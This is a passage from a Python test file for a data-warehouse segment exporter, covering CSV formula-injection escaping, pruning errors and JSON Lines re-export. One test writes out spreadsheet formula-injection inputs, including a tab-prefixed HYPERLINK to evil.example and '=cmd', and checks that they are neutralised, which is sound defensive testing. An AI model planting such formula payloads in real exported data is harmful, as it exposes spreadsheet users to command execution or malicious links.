    assert "csv_formulas" not in _export(warehouse, exports, d, ExportOptions(formats=("parquet",))).manifest


def test_a_campaign_starting_with_a_tab_or_carriage_return_is_neutralised_in_csv(world):
    """OWASP's list, as FORMULA_START and the test above state it, includes a leading tab and carriage return (a
    spreadsheet strips them and runs what follows): "\t=cmd" and "\r+1+1" get the apostrophe in CSV too; a
    campaign with a tab inside ("a\tb") is text and is left as it is."""
    warehouse, exports = world
    (d,) = _defs()
    planted = {"C1": "\t=HYPERLINK(\"http://evil.example\")", "C2": "\r+1+1", "C3": "a\tb"}
    con = connect(warehouse)
    for key, campaign in planted.items():
        con.execute("update marts.dim_customers set acquisition_campaign = ? where customer_key = ?", [campaign, key])
    con.close()
    _membership(warehouse, [d])
    first = _export(warehouse, exports, d, ExportOptions(formats=("csv",)))
    got = {r["customer_key"]: r["acquisition_campaign"] for r in _csv_dicts(first.path / "buyers.csv")}
    assert {k: got[k] for k in planted} == {"C1": "'" + planted["C1"], "C2": "'" + planted["C2"], "C3": "a\tb"}


def _csv_dicts(path):
    import csv

    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def test_old_exports_that_cannot_be_removed_leave_the_new_export_published(world, monkeypatch):
    """From the diff review: an error removing exports beyond `keep`, after LATEST had moved, was reported as the
    export not published. The export stands; the error comes back to be warned of."""
    from orchestration.segments import exports as exports_lib

    warehouse, exports = world
    (d,) = _defs()
    _membership(warehouse, [d])
    first = _export(warehouse, exports, d, ExportOptions(formats=("csv",), keep=1))
    con = connect(warehouse)
    con.execute("update marts.dim_customers set net_revenue = 99 where customer_key = 'C1'")
    con.close()
    _membership(warehouse, [d])

    def refuse(segment_dir, export_id):
        raise PermissionError(13, "Permission denied", str(segment_dir / export_id))

    monkeypatch.setattr(exports_lib, "_discard", refuse)
    second = _export(warehouse, exports, d, ExportOptions(formats=("csv",), keep=1))
    assert latest_export_id(exports / "buyers") == second.export_id != first.export_id
    assert second.prune_error and "not removed" in second.prune_error and "Permission denied" in second.prune_error
    assert (exports / "buyers" / first.export_id).is_dir()  # still there, for the next prune


def test_a_jsonl_export_from_before_rfc3339_instants_is_written_again_once(world):
    """After the upgrade to RFC 3339 instants, a segment whose members did not change kept LATEST in the old text
    (the upgrade review): a manifest that does not say `jsonl_instants: rfc3339` is exported again, once."""
    warehouse, exports = world
    (d,) = _defs()
    _membership(warehouse, [d])
    options = ExportOptions(formats=("jsonl",))
    first = _export(warehouse, exports, d, options)
    assert first.manifest["jsonl_instants"] == "rfc3339"
    # as the code before wrote it: no such key
    manifest_path = first.path / "manifest.json"
    old = json.loads(manifest_path.read_text(encoding="utf-8"))
    del old["jsonl_instants"]
    manifest_path.write_text(json.dumps(old), encoding="utf-8")
    second = _export(warehouse, exports, d, options)
    assert not second.unchanged and second.export_id != first.export_id and (second.adds, second.removes) == (0, 0)
    third = _export(warehouse, exports, d, options)
    assert third.unchanged and third.export_id == second.export_id
    # a CSV-only export says nothing of JSON Lines and is not written again for it
    assert "jsonl_instants" not in _export(warehouse, exports, d, ExportOptions(formats=("csv",))).manifest
